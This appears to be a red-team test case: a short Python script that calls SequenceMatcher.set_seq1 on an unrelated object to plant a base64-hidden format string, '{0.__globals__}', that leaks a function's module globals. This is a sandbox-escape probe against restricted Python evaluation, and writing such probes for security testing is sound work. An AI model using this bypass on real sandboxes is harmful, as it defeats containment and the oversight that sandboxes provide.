# family: red team, round 58a (tool subclass Mine of SequenceMatcher; Mine.set_seq1(r, v) on another class's object)
import base64
import difflib


class Mine(difflib.SequenceMatcher):
    pass


class Reader:
    a = "{0.real}"

    def show(self, x):
        return self.a.format(x)


def probe():
    return 1


r = Reader()
Mine.set_seq1(r, base64.b64decode("ezAuX19nbG9iYWxzX199").decode())
print(r.show(probe))
